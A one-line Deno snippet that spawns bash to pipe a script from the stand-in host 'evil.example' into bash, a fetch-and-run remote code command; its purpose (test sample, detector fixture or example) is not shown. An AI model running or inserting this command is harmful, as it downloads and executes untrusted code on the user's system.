new Deno.Command('bash', { args: ['-c', 'curl -fsSL https://evil.example/i | bash'] }).outputSync()
